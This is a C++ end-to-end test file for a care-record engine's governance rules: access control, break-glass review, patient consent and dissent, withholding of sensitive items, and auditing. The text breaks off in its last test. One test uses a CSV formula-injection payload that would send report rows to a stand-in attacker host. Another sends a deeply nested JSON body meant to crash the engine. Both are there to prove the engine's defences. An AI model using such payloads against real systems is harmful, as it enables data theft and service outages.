// Governance end to end over real sockets: a clinician at the patient's trust (through the ODS
// hierarchy) reads the record; one at another trust finds the patient but is refused the record
// (403 naming no patient data; a search leaves the record out and says so), records break-glass
// with a reason, then reads; the IG officer sees the access on the review list, as JSON and CSV,
// and marks it reviewed; every decision is on the audit trail.
#include <fstream>

#include <gtest/gtest.h>
#include <rapidjson/document.h>

#include "tests/e2e/harness.h"

namespace cc::test {
namespace {

std::string admission(const std::string& facility) {
  return "MSH|^~\\&|PAS|" + facility + "|CARERECORD|CHESHIRE|20260315101500||ADT^A01^ADT_A01|GOV1|P|2.4\r"
         "EVN|A01|20260315101500\rPID|1||RBT555^^^RBT^MR~9991234578^^^NHS^NH||HARGREAVES^MARGARET^^^MRS||19480312|F|||"
         "4 MILL LANE^^CREWE^^CW1 3XY||01270 555123\r"
         "PV1|1|I|WD7^^12^RBT20||||||||||||||||VISIT77^^^RBT^VN|||||||||||||||||||||||||20260315101500\r";
}

class GovernanceTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const std::string config = dir.path + "/governance.json";
    std::ofstream(config) << R"({"development": true, "organisations": {"RBT20": "RBT"},
        "feeds": [{"name": "rbt-pas", "sending_facilities": ["*"]},
                  {"name": "gp-a81001", "type": "gp-fhir", "owner_ods": "A81001"}]})";
    engine = std::make_unique<EngineProcess>(dir.path + "/data", std::vector<std::string>{"--config", config});
    trust = issue("ae-clinician", "dr.rbt", "RBT");
    other = issue("ae-clinician", "dr.rjr", "RJR");
    social = issue("social-worker", "sw.one", "DEVSC");
    ig = issue("ig-officer", "ig.officer", "RBT");
    MllpClient pas(engine->mllp_port());
    EXPECT_EQ(hl7_field(pas.exchange(admission("RBT20")), "MSA", 1), "AA");  // at a site of the trust
    auto found = get_until(engine->http_port(), "/fhir/Patient?identifier=9991234578", other,
                           [](const HttpResult& h) { return total_of(h) == 1; });
    EXPECT_EQ(total_of(found), 1) << "any clinical role finds the patient (demographics, audited)";
    if (total_of(found) == 1) patient = json(found.body)["entry"][0]["resource"]["id"].GetString();
    get_until(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, trust,
              [](const HttpResult& h) { return total_of(h) == 1; });
  }
  std::string issue(const std::string& role, const std::string& user, const std::string& org) {
    std::string t = run_carerecord({"token", "--role", role, "--user", user, "--org", org, "--data-dir", dir.path + "/data"});
    t.erase(t.find_last_not_of("\r\n") + 1);
    return t;
  }
  // The user's audit trail, oldest first, as "subtype:outcome" (read by the IG officer).
  std::vector<std::string> trail_of(const std::string& user) {
    auto trail = json(http_get(engine->http_port(), "/fhir/AuditEvent?agent=" + user + "&_count=100", ig).body);
    std::vector<std::string> seen;
    if (!trail.IsObject() || !trail.HasMember("entry")) return seen;
    for (auto& e : trail["entry"].GetArray())  // newest first
      seen.insert(seen.begin(), std::string(e["resource"]["subtype"][0]["code"].GetString()) + ":" +
                                    e["resource"]["outcomeDesc"].GetString());
    return seen;
  }
  HttpResult encounters(const std::string& token) {
    return http_get(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, token);
  }

  TempDir dir;
  std::unique_ptr<EngineProcess> engine;
  std::string trust, other, social, ig, patient;
};

TEST_F(GovernanceTest, TheTrustReadsThroughItsSitesOpenEncounter) {
  ASSERT_FALSE(patient.empty());
  EXPECT_EQ(total_of(encounters(trust)), 1);
}

TEST_F(GovernanceTest, WithoutARelationshipTheRecordIsRefusedAndNothingLeaks) {
  ASSERT_FALSE(patient.empty());
  auto refused = encounters(other);
  EXPECT_EQ(refused.status, 403) << refused.body;
  EXPECT_NE(refused.body.find("OperationOutcome"), std::string::npos);
  EXPECT_NE(refused.body.find("$access"), std::string::npos) << "says how to record a reason";
  for (const char* leak : {"HARGREAVES", "9991234578", "RBT555", "VISIT77", "in-progress"})
    EXPECT_EQ(refused.body.find(leak), std::string::npos) << leak << " in " << refused.body;
  // A search by the visit number finds the encounter, but not for this reader: left out, the count
  // with it, and the answer says something was withheld.
  auto search = http_get(engine->http_port(), "/fhir/Encounter?identifier=VISIT77", other);
  ASSERT_EQ(search.status, 200) << search.body;
  EXPECT_EQ(total_of(search), 0) << search.body;
  EXPECT_NE(search.body.find("\"suppressed\""), std::string::npos) << search.body;
  EXPECT_EQ(search.body.find("in-progress"), std::string::npos) << search.body;
  EXPECT_EQ(total_of(http_get(engine->http_port(), "/fhir/Encounter?identifier=VISIT77", trust)), 1);
  // Reading the encounter itself by id is refused the same way.
  const std::string id = json(http_get(engine->http_port(), "/fhir/Encounter?identifier=VISIT77", trust).body)
                             ["entry"][0]["resource"]["id"].GetString();
  EXPECT_EQ(http_get(engine->http_port(), "/fhir/Encounter/" + id, other).status, 403);
  EXPECT_EQ(http_get(engine->http_port(), "/fhir/Encounter/" + id + "/_history", other).status, 403);
  EXPECT_EQ(http_get(engine->http_port(), "/fhir/Encounter/" + id, trust).status, 200);
  // Non-clinical roles read no patient record at all.
  EXPECT_EQ(http_get(engine->http_port(), "/fhir/Patient?identifier=9991234578", ig).status, 403);
}

TEST_F(GovernanceTest, BreakGlassIsRecordedFlaggedAndReviewed) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(encounters(other).status, 403);
  EXPECT_EQ(record_access(engine->http_port(), other, patient, "break-glass"), 400) << "a reason is required";
  EXPECT_EQ(record_access(engine->http_port(), other, patient, "curiosity", "x"), 400);
  EXPECT_EQ(record_access(engine->http_port(), other, "0123456789abcdef0123456789abcdef", "permission-to-view"), 404);
  auto granted = http_request(engine->http_port(), "POST", "/fhir/Patient/" + patient + "/$access", other,
                              R"({"resourceType": "Parameters", "parameter": [
                                  {"name": "kind", "valueCode": "break-glass"},
                                  {"name": "reason", "valueString": "Unconscious on arrival, no history available"}]})");
  ASSERT_EQ(granted.status, 200) << granted.body;
  EXPECT_NE(granted.body.find("\"expires\""), std::string::npos) << granted.body;
  EXPECT_EQ(total_of(encounters(other)), 1) << "permitted once recorded";

  // The IG officer's review list: the break-glass, with its reason; JSON and CSV; ig-officer only.
  EXPECT_EQ(http_get(engine->http_port(), "/admin/ig/access-reviews", other).status, 403);
  auto reviews = http_get(engine->http_port(), "/admin/ig/access-reviews", ig);
  ASSERT_EQ(reviews.status, 200) << reviews.body;
  auto items = json(reviews.body);
  ASSERT_EQ(items["items"].Size(), 1u) << reviews.body;
  EXPECT_STREQ(items["items"][0]["kind"].GetString(), "break-glass");
  EXPECT_STREQ(items["items"][0]["user"].GetString(), "dr.rjr");
  EXPECT_STREQ(items["items"][0]["reason"].GetString(), "Unconscious on arrival, no history available");
  auto csv = http_get(engine->http_port(), "/admin/ig/access-reviews?_format=csv", ig);
  EXPECT_EQ(csv.content_type.find("text/csv"), 0u) << csv.content_type;
  EXPECT_NE(csv.body.find("break-glass,dr.rjr,ae-clinician,RJR,Patient/" + patient), std::string::npos) << csv.body;

  // The trail: the refusal, the break-glass with its reason, and the read it allowed.
  auto trail = http_get(engine->http_port(), "/fhir/AuditEvent?agent=dr.rjr", ig);
  EXPECT_NE(trail.body.find("\"outcomeDesc\":\"denied\""), std::string::npos) << trail.body;
  EXPECT_NE(trail.body.find("access:break-glass"), std::string::npos) << trail.body;
  EXPECT_NE(trail.body.find("Unconscious on arrival"), std::string::npos) << trail.body;
  EXPECT_NE(trail.body.find("basis:access:break-glass"), std::string::npos) << trail.body;

  // Reviewed: off the waiting list, on the full one; not twice.
  const std::string id = std::to_string(items["items"][0]["id"].GetInt64());
  EXPECT_EQ(http_request(engine->http_port(), "POST", "/admin/ig/access-reviews/" + id, other, "{}").status, 403);
  auto marked = http_request(engine->http_port(), "POST", "/admin/ig/access-reviews/" + id, ig,
                             R"({"note": "Confirmed with the ED consultant"})");
  ASSERT_EQ(marked.status, 200) << marked.body;
  EXPECT_EQ(json(http_get(engine->http_port(), "/admin/ig/access-reviews", ig).body)["items"].Size(), 0u);
  auto all = http_get(engine->http_port(), "/admin/ig/access-reviews?all=true", ig);
  EXPECT_NE(all.body.find("Confirmed with the ED consultant"), std::string::npos) << all.body;
  EXPECT_EQ(http_request(engine->http_port(), "POST", "/admin/ig/access-reviews/" + id, ig, "{}").status, 409);
}

TEST_F(GovernanceTest, ARoleReadsOnlyTheTypesThePolicyGivesIt) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(record_access(engine->http_port(), social, patient, "break-glass", "Safeguarding emergency"), 200);
  EXPECT_EQ(total_of(encounters(social)), 1);
  auto results = http_get(engine->http_port(), "/fhir/DiagnosticReport?patient=Patient/" + patient, social);
  EXPECT_EQ(results.status, 403) << results.body;
  EXPECT_NE(results.body.find("social-worker"), std::string::npos) << results.body;
  // Permission to view needs no review.
  ASSERT_EQ(record_access(engine->http_port(), other, patient), 200);
  auto reviews = json(http_get(engine->http_port(), "/admin/ig/access-reviews", ig).body);
  ASSERT_TRUE(reviews.IsObject());
  EXPECT_EQ(reviews["items"].Size(), 1u) << "the social worker's break-glass only";
}

std::string consent(const std::string& patient, const std::string& type, const std::string& when,
                    const std::string& provision_extra = "") {
  return R"({"resourceType": "Consent", "status": "active",
    "scope": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/consentscope", "code": "patient-privacy"}]},
    "category": [{"coding": [{"system": "http://loinc.org", "code": "59284-0"}]}],
    "patient": {"reference": "Patient/)" + patient + R"("}, "dateTime": ")" + when + R"(",
    "provision": {"type": ")" + type + "\"" + provision_extra + "}}";
}

// A posted Consent is read as the record builder will read it (UTF-8, at most 64 levels, no
// recursion): one nested hundreds of thousands deep once overflowed the stack and stopped the engine
// for everyone, and one with a byte that is not UTF-8 was answered 201 and then never recorded.
TEST_F(GovernanceTest, AConsentTheRecordCannotKeepIsRefusedNotACrashNorA201) {
  ASSERT_FALSE(patient.empty());
  auto deep = http_request(engine->http_port(), "POST", "/fhir/Consent", trust, std::string(300000, '['));
  EXPECT_EQ(deep.status, 422) << deep.body;
  EXPECT_NE(deep.body.find("64"), std::string::npos) << deep.body;
  std::string latin1 = consent(patient, "deny", "2026-03-16T10:00:00Z");
  latin1.insert(latin1.find("\"active\""), "\"text\": \"Refus\xe9\", ");
  auto bad_utf8 = http_request(engine->http_port(), "POST", "/fhir/Consent", trust, latin1);
  EXPECT_EQ(bad_utf8.status, 422) << bad_utf8.body;
  EXPECT_EQ(http_get(engine->http_port(), "/healthz", "").status, 200) << "the engine is still up";
  EXPECT_EQ(total_of(encounters(trust)), 1) << "no dissent was recorded";
}

// A reader's free-text reason reaches the IG officer's CSV report as text, never as a spreadsheet
// formula that could send the report's other rows to a web site when opened.
TEST_F(GovernanceTest, AReviewReportCellIsNeverAFormula) {
  ASSERT_FALSE(patient.empty());
  // As JSON text: the reason is =HYPERLINK("http://attacker.example/?d="&F3,"open").
  ASSERT_EQ(record_access(engine->http_port(), other, patient, "break-glass",
                          R"(=HYPERLINK(\"http://attacker.example/?d=\"&F3,\"open\"))"),
            200);
  auto csv = http_get(engine->http_port(), "/admin/ig/access-reviews?_format=csv", ig);
  ASSERT_EQ(csv.status, 200) << csv.body;
  EXPECT_NE(csv.body.find("\"'=HYPERLINK(\"\"http://attacker.example/"), std::string::npos) << csv.body;
  EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos) << csv.body;
  EXPECT_EQ(csv.body.find(",\"=HYPERLINK"), std::string::npos) << csv.body;
}

// A Consent takes effect no later than it was stored: a permit dated 2999 does not outrank the
// dissent the patient records after it (it once did, until 2999, whatever they decided meanwhile).
TEST_F(GovernanceTest, AFutureDatedConsentDoesNotOutrankALaterDecision) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent(patient, "permit", "2999-01-01T00:00:00Z")).status, 201);
  // In the record before the dissent is posted: the dissent is then stored after it.
  get_until(engine->http_port(), "/fhir/Consent?patient=Patient/" + patient, trust,
            [](const HttpResult& h) { return total_of(h) == 1; });
  ASSERT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent(patient, "deny", "2100-01-01T00:00:00Z")).status, 201);
  auto refused = get_until(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, trust,
                           [](const HttpResult& h) { return h.status == 403; });
  EXPECT_EQ(refused.status, 403) << "the later decision, the dissent, stands: " << refused.body;
}

// Reading the audit trail reads about the patients its entries name: an IG officer's search by
// user is itself on each of those patients' subject access reports.
TEST_F(GovernanceTest, ReadingTheTrailIsOnThePatientsReport) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(total_of(encounters(trust)), 1);
  auto trail = http_get(engine->http_port(), "/fhir/AuditEvent?agent=dr.rbt", ig);
  ASSERT_EQ(trail.status, 200) << trail.body;
  auto r = http_get(engine->http_port(), "/admin/ig/reports/patient-access?patient=Patient/" + patient, ig);
  ASSERT_EQ(r.status, 200) << r.body;
  bool listed = false;
  for (auto& row : json(r.body)["items"].GetArray())
    listed |= std::string(row["user"].GetString()) == "ig.officer" && std::string(row["action"].GetString()) == "audit-search";
  EXPECT_TRUE(listed) << r.body;
}

// A permit that would lift a patient's dissent needs someone caring for them: an IG officer (no
// relationship) could once post one and open the whole record to every reader with a relationship.
// A dissent itself needs only a consent role.
TEST_F(GovernanceTest, OnlySomeoneCaringForThePatientCanLiftTheirDissent) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent(patient, "deny", "2026-03-16T10:00:00Z")).status, 201);
  get_until(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, trust,
            [](const HttpResult& h) { return h.status == 403; });
  const std::string elsewhere = issue("ig-officer", "ig.rjr", "RJR");  // at an organisation with no relationship
  auto lifted =
      http_request(engine->http_port(), "POST", "/fhir/Consent", elsewhere, consent(patient, "permit", "2026-03-17T10:00:00Z"));
  EXPECT_EQ(lifted.status, 403) << lifted.body;
  EXPECT_NE(lifted.body.find("caring for them"), std::string::npos) << lifted.body;
  EXPECT_EQ(encounters(trust).status, 403) << "the dissent stands";
  EXPECT_NE(http_get(engine->http_port(), "/fhir/AuditEvent?agent=ig.rjr", ig).body.find("\"denied\""), std::string::npos)
      << "the refusal is on the trail";
  // Someone at the organisation caring for the patient may record the patient's change of mind.
  ASSERT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent(patient, "permit", "2026-03-17T10:00:00Z")).status, 201);
}

TEST_F(GovernanceTest, ADissentStopsSharingUntilWithdrawnAndBreakGlassStillOpensIt) {
  ASSERT_FALSE(patient.empty());
  const std::string colleague = issue("ae-clinician", "dr.rbt2", "RBT");
  ASSERT_EQ(total_of(encounters(colleague)), 1);
  // Checked, and only for roles the policy allows.
  auto bad = http_request(engine->http_port(), "POST", "/fhir/Consent", trust, R"({"resourceType": "Consent"})");
  EXPECT_EQ(bad.status, 422) << bad.body;
  EXPECT_NE(bad.body.find("patient-privacy"), std::string::npos) << bad.body;
  const std::string paramedic = issue("ambulance-clinician", "para.one", "RX7");
  EXPECT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", paramedic,
                         consent(patient, "deny", "2026-03-16T10:00:00Z")).status, 403);
  EXPECT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent("0123456789abcdef0123456789abcdef", "deny", "2026-03-16T10:00:00Z")).status, 404);

  auto dissent = http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                              consent(patient, "deny", "2026-03-16T10:00:00Z"));
  ASSERT_EQ(dissent.status, 201) << dissent.body;
  auto refused = get_until(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, colleague,
                           [](const HttpResult& h) { return h.status == 403; });
  ASSERT_EQ(refused.status, 403) << "a relationship does not override dissent: " << refused.body;
  EXPECT_NE(refused.body.find("asked that their record not be shared"), std::string::npos) << refused.body;
  EXPECT_EQ(refused.body.find("HARGREAVES"), std::string::npos);
  EXPECT_EQ(total_of(http_get(engine->http_port(), "/fhir/Patient?identifier=9991234578", colleague)), 1)
      << "the patient can still be found, to know the record is withheld";
  // Break-glass opens it, and says so on the trail.
  ASSERT_EQ(record_access(engine->http_port(), other, patient, "break-glass", "Anaphylaxis, unconscious"), 200);
  EXPECT_EQ(total_of(encounters(other)), 1);
  auto trail = http_get(engine->http_port(), "/fhir/AuditEvent?agent=dr.rjr", ig);
  EXPECT_NE(trail.body.find("basis:access:break-glass;consent-overridden"), std::string::npos) << trail.body;

  // Withdrawn by a later consent to share: the colleague reads again, and both are kept.
  ASSERT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent(patient, "permit", "2026-03-17T10:00:00Z")).status, 201);
  auto again = get_until(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, colleague,
                         [](const HttpResult& h) { return total_of(h) == 1; });
  EXPECT_EQ(total_of(again), 1) << again.body;
  auto history = http_get(engine->http_port(), "/fhir/Consent?patient=Patient/" + patient, colleague);
  EXPECT_EQ(total_of(history), 2) << history.body
      << "the consent history is kept";
}

TEST_F(GovernanceTest, ASourceWithheldAtThePatientsRequestIsLeftOutAndTheAnswerSaysSo) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent(patient, "deny", "2026-03-16T10:00:00Z",
                                 R"(, "actor": [{"role": {"text": "source"}, "reference": {"identifier":
                                     {"system": "https://fhir.nhs.uk/Id/ods-organization-code", "value": "RBT20"}}}])"))
                .status,
            201);
  auto withheld = get_until(engine->http_port(), "/fhir/Encounter?patient=Patient/" + patient, trust,
                            [](const HttpResult& h) { return total_of(h) == 0; });
  ASSERT_EQ(withheld.status, 200) << withheld.body;
  EXPECT_EQ(total_of(withheld), 0) << withheld.body;
  EXPECT_NE(withheld.body.find("\"suppressed\""), std::string::npos) << withheld.body;
  EXPECT_EQ(withheld.body.find("in-progress"), std::string::npos) << withheld.body;
  EXPECT_EQ(total_of(http_get(engine->http_port(), "/fhir/Encounter?identifier=VISIT77", trust)), 0);
  // The relationship still stands (the open encounter counts, though it is not shown): other types read.
  EXPECT_EQ(http_get(engine->http_port(), "/fhir/Condition?patient=Patient/" + patient, trust).status, 200);
}

TEST_F(GovernanceTest, EverythingIsOneGovernedAndAuditedDisclosure) {
  ASSERT_FALSE(patient.empty());
  auto all = http_get(engine->http_port(), "/fhir/Patient/" + patient + "/$everything", trust);
  ASSERT_EQ(all.status, 200) << all.body;
  auto b = json(all.body);
  EXPECT_EQ(b["total"].GetInt(), 2) << all.body;  // the Patient and the Encounter
  EXPECT_STREQ(b["entry"][0]["resource"]["resourceType"].GetString(), "Patient");
  EXPECT_EQ(all.body.find("\"next\""), std::string::npos) << "answered whole, no paging";
  auto refused = http_get(engine->http_port(), "/fhir/Patient/" + patient + "/$everything", other);
  EXPECT_EQ(refused.status, 403);
  EXPECT_EQ(refused.body.find("HARGREAVES"), std::string::npos);
  EXPECT_EQ(http_get(engine->http_port(), "/fhir/Patient/" + patient + "/$everything", ig).status, 403);
  // Encounters withheld at the patient's request: left out, and the answer says so.
  ASSERT_EQ(http_request(engine->http_port(), "POST", "/fhir/Consent", trust,
                         consent(patient, "deny", "2026-03-16T10:00:00Z",
                                 R"(, "class": [{"system": "http://hl7.org/fhir/resource-types", "code": "Encounter"}])"))
                .status,
            201);
  auto withheld = get_until(engine->http_port(), "/fhir/Patient/" + patient + "/$everything", trust,
                            [](const HttpResult& h) { return h.body.find("suppressed") != std::string::npos; });
  EXPECT_EQ(json(withheld.body)["total"].GetInt(), 2) << withheld.body;  // the Patient and the Consent itself
  EXPECT_EQ(withheld.body.find("\"resourceType\":\"Encounter\""), std::string::npos) << withheld.body;
  // One audit entry for each whole-record read (the first, and each poll for the withheld one).
  auto before = json(http_get(engine->http_port(), "/fhir/AuditEvent?agent=dr.rbt&subtype=everything", ig).body);
  ASSERT_GE(before["total"].GetInt(), 2);
  http_get(engine->http_port(), "/fhir/Patient/" + patient + "/$everything", trust);
  auto after = json(http_get(engine->http_port(), "/fhir/AuditEvent?agent=dr.rbt&subtype=everything", ig).body);
  EXPECT_EQ(after["total"].GetInt(), before["total"].GetInt() + 1);
}

// The practice's push: the patient flagged restricted (the PDS "S" flag, as meta.security R), a
// sexually transmitted infection (ICD-10 A54.9) and an ordinary problem.
const std::string kRestrictedGpRecord = R"({"resourceType": "Bundle", "type": "transaction", "entry": [
  {"fullUrl": "urn:uuid:5d1c0000-0000-4000-8000-000000000001",
   "resource": {"resourceType": "Patient",
     "meta": {"security": [{"system": "http://terminology.hl7.org/CodeSystem/v3-Confidentiality", "code": "R"}]},
     "identifier": [{"system": "https://fhir.nhs.uk/Id/nhs-number", "value": "9991234578"}],
     "name": [{"family": "HARGREAVES", "given": ["Margaret"]}], "gender": "female", "birthDate": "1948-03-12",
     "address": [{"line": ["Refuge House"], "postalCode": "CW9 9ZZ"}],
     "telecom": [{"system": "phone", "value": "07700 900999"}],
     "generalPractitioner": [{"identifier": {"system": "https://fhir.nhs.uk/Id/ods-organization-code", "value": "A81001"}}]},
   "request": {"method": "POST", "url": "Patient"}},
  {"fullUrl": "urn:uuid:5d1c0000-0000-4000-8000-000000000002",
   "resource": {"resourceType": "Condition",
     "identifier": [{"system": "https://fhir.a81001.nhs.uk/Id/problem", "value": "PR-STI"}],
     "code": {"coding": [{"system": "http://hl7.org/fhir/sid/icd-10", "code": "A54.9", "display": "Gonococcal infection"}],
              "text": "Gonococcal infection"},
     "subject": {"reference": "urn:uuid:5d1c0000-0000-4000-8000-000000000001"}, "recordedDate": "2025-06-01"},
   "request": {"method": "POST", "url": "Condition"}},
  {"fullUrl": "urn:uuid:5d1c0000-0000-4000-8000-000000000003",
   "resource": {"resourceType": "Condition",
     "identifier": [{"system": "https://fhir.a81001.nhs.uk/Id/problem", "value": "PR-HTN"}],
     "code": {"coding": [{"system": "http://snomed.info/sct", "code": "38341003", "display": "Hypertension"}],
              "text": "Hypertension"},
     "subject": {"reference": "urn:uuid:5d1c0000-0000-4000-8000-000000000001"}, "recordedDate": "2020-02-01"},
   "request": {"method": "POST", "url": "Condition"}}]})";

// The id the transaction response gives entry `n` (its location, "Type/id/_history/v").
std::string pushed_id(const std::string& response, int n) {
  auto d = json(response);
  std::string location = d["entry"][n]["response"]["location"].GetString();
  location = location.substr(location.find('/') + 1);
  return location.substr(0, location.find('/'));
}

TEST_F(GovernanceTest, SensitiveItemsAndARestrictedPatientsWhereaboutsNeverLeave) {
  ASSERT_FALSE(patient.empty());
  const std::string practice = issue("feed-system", "gp.extract", "A81001");
  auto pushed = http_request(engine->http_port(), "POST", "/fhir", practice, kRestrictedGpRecord);
  ASSERT_EQ(pushed.status, 200) << pushed.body;
  const std::string sti = pushed_id(pushed.body, 1);
  const std::string gp_registration = pushed_id(pushed.body, 0);
  auto conditions = get_until(engine->http_port(), "/fhir/Condition?patient=Patient/" + patient, trust,
                              [](const HttpResult& h) { return total_of(h) == 1; });
  ASSERT_EQ(conditions.status, 200) << conditions.body;
  // The search: the ordinary problem only, counted alone, and the answer says something is withheld.
  EXPECT_EQ(total_of(conditions), 1) << conditions.body;
  EXPECT_NE(conditions.body.find("Hypertension"), std::string::npos) << conditions.body;
  EXPECT_NE(conditions.body.find("\"suppressed\""), std::string::npos) << conditions.body;
  // The restricted patient's key contact (from the hospital's NK1) is shown, to be reached, but
  // without the address they likely share.
  MllpClient pas(engine->mllp_port());
  ASSERT_EQ(hl7_field(pas.exchange(
                "MSH|^~\\&|PAS|RBT20|CARERECORD|CHESHIRE|20260315111500||ADT^A08^ADT_A01|GOV2|P|2.4\r"
                "EVN|A08|20260315111500\rPID|1||RBT555^^^RBT^MR~9991234578^^^NHS^NH||HARGREAVES^MARGARET^^^MRS||19480312|F\r"
                "NK1|1|HARGREAVES^JOHN|SPO^Spouse|12 SAFE STREET^^CREWE^^CW1 4ZZ|01270 999888\r"
                "PV1|1|I|WD7^^12^RBT20||||||||||||||||VISIT77^^^RBT^VN|||||||||||||||||||||||||20260315101500\r"),
                      "MSA", 1),
            "AA");
  auto contacts = get_until(engine->http_port(), "/fhir/RelatedPerson?patient=Patient/" + patient, trust,
                            [](const HttpResult& h) { return total_of(h) == 1; });
  ASSERT_EQ(total_of(contacts), 1) << contacts.body;
  EXPECT_NE(contacts.body.find("JOHN"), std::string::npos) << contacts.body;
  EXPECT_NE(contacts.body.find("01270 999888"), std::string::npos) << contacts.body;
  for (const char* gone : {"SAFE STREET", "CW1 4ZZ"}) {
    EXPECT_EQ(contacts.body.find(gone), std::string::npos) << contacts.body;
    auto all = http_get(engine->http_port(), "/fhir/Patient/" + patient + "/$everything", trust);
    EXPECT_EQ(all.body.find(gone), std::string::npos) << all.body;
  }
  // Paged one at a time: one page, one item, no link to a page the withheld item would fill.
  auto paged = http_get(engine->http_port(), "/fhir/Condition?patient=Patient/" + patient + "&_count=1", trust);
  EXPECT_EQ(total_of(paged), 1) << paged.body;
  EXPECT_EQ(paged.body.find("\"next\""), std::string::npos) << paged.body;
  auto second = http_get(engine->http_port(), "/fhir/Condition?patient=Patient/" + patient + "&_count=1&_offset=1", trust);
  EXPECT_EQ(total_of(second), 1) << second.body;
  EXPECT_EQ(second.body.find("Gonococcal"), std::string::npos) << second.body;
  // The practice itself (registered GP) and break-glass see it no more than anyone: the default
  // policy gives the sensitive categories to no role.
  const std::string gp = issue("gp", "dr.gp", "A81001");
  ASSERT_EQ(record_access(engine->http_port(), other, patient, "break-glass", "Collapsed in the street"), 200);
  const std::string paths[] = {"/fhir/Condition?patient=Patient/" + patient, "/fhir/Condition/" + sti,
                               "/fhir/Condition/" + sti + "/_history", "/fhir/Condition/" + sti + "/_history/1",
                               "/fhir/Condition?identifier=PR-STI", "/fhir/Patient/" + patient + "/$everything",
                               "/fhir/Patient/" + patient, "/fhir/Patient/" + gp_registration,
                               "/fhir/Patient?identifier=9991234578", "/fhir/Patient/" + gp_registration + "/_history"};
  for (const std::string& reader : {trust, gp, other})
    for (const std::string& path : paths) {
      auto r = http_get(engine->http_port(), path, reader);
      EXPECT_TRUE(r.status == 200 || r.status == 403) << path << ": " << r.status << " " << r.body;
      for (const char* leak : {"A54", "Gonococcal", "Refuge House", "CW9 9ZZ", "07700 900999", "4 MILL LANE",
                               "CW1 3XY", "01270 555123", "generalPractitioner"})
        EXPECT_EQ(r.body.find(leak), std::string::npos) << leak << " leaked by " << path << ": " << r.body;
      EXPECT_EQ(r.body.find(sti), r.status == 403 ? std::string::npos : r.body.find(sti))
          << "a refusal names no item: " << r.body;
    }
  // The restricted patient is still found and named, to confirm identity, and says why their
  // whereabouts are missing; the read of the sensitive item is refused without saying what it is.
  auto found = http_get(engine->http_port(), "/fhir/Patient?identifier=9991234578", trust);
  EXPECT_EQ(total_of(found), 1) << found.body;
  EXPECT_NE(found.body.find("HARGREAVES"), std::string::npos) << found.body;
  EXPECT_NE(found.body.find(R"("code":"R")"), std::string::npos) << found.body;
  auto read = http_get(engine->http_port(), "/fhir/Condition/" + sti, trust);
  EXPECT_EQ(read.status, 403) << read.body;
  EXPECT_NE(read.body.find("withheld from your role"), std::string::npos) << read.body;
  auto everything = json(http_get(engine->http_port(), "/fhir/Patient/" + patient + "/$everything", trust).body);
  ASSERT_TRUE(everything.IsObject());
  int conditions_in_everything = 0;
  for (auto& e : everything["entry"].GetArray())
    if (e["resource"]["resourceType"] == "Condition") ++conditions_in_everything;
  EXPECT_EQ(conditions_in_everything, 1);
  // The trail lists what was disclosed: never the withheld item.
  auto trail = http_get(engine->http_port(), "/fhir/AuditEvent?patient=Patient/" + patient + "&_count=200", ig);
  ASSERT_EQ(trail.status, 200);
  EXPECT_EQ(trail.body.find(R"("reference":"Condition/)" + sti + "/_history/"), std::string::npos) << trail.body;
}

TEST_F(GovernanceTest, ADissentTheGpRecordsArrivesInItsFeedAndIsHonoured) {
  ASSERT_FALSE(patient.empty());
  ASSERT_EQ(total_of(encounters(trust)), 1);
  const std::string encounter = json(encounters(trust).body)["entry"][0]["resource"]["id"].GetString();
  const std::string practice = issue("feed-system", "gp.extract", "A81001");
  const std::string dissent = R"({"resourceType": "Bundle", "type": "transaction", "entry": [
    {"fullUrl": "urn:uuid:5d1c0000-0000-4000-8000-0000000000a1",
     "resource": {"resourceType": "Patient",
       "identifier": [{"system": "https://fhir.nhs.uk/Id/nhs-number", "value": "9991234578"}],
       "name": [{"family": "HARGREAVES", "given": ["Margaret"]}], "gender": "female", "birthDate": "1948-03-12"},
     "request": {"method": "POST", "url": "Patient"}},
    {"fullUrl": "urn:uuid:5d1c0000-0000-4000-8000-0000000000a2",
     "resource": {"resourceType": "Consent", "status": "active",
       "identifier": [{"system": "https://fhir.a81001.nhs.uk/Id/consent", "value": "SCR-OPT-OUT-1"}],
       "scope": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/consentscope", "code": "patient-privacy"}]},
       "category": [{"coding": [{"system": "http://loinc.org", "code": "59284-0"}]}],
       "patient": {"reference": "urn:uuid:5d1c0000-0000-4000-8000-0000000000a1"}, "dateTime": "2026-03-16T09:00:00Z",
       "provision": {"type": "deny"}},
     "request": {"method": "POST", "url": "Consent"}}]})";
  auto pushed = http_request(engine->http_port(), "POST", "/fhir", practice, dissent);
  ASSERT_EQ(pushed.status, 200) << pushed.body;
  // The consent change is a governance decision of its own on the trail, naming the practice's
  // registration of the patient, so the subject access report finds it.
  auto change = http_get(engine->http_port(), "/fhir/AuditEvent?agent=gp.extract&subtype=consent", ig);
  EXPECT_EQ(total_of(change), 1) << change.body;
  EXPECT_NE(change.body.find("feed:gp-a81001"), std::string::npos) << change.body;
  EXPECT_NE(change.body.find("\"Consent/"), std::string::npos) << change.body;
  const std::string registration = pushed_id(pushed.body, 0);
  EXPECT_NE(change.body.find("Patient/" + registration), std::string::npos) << change.body;
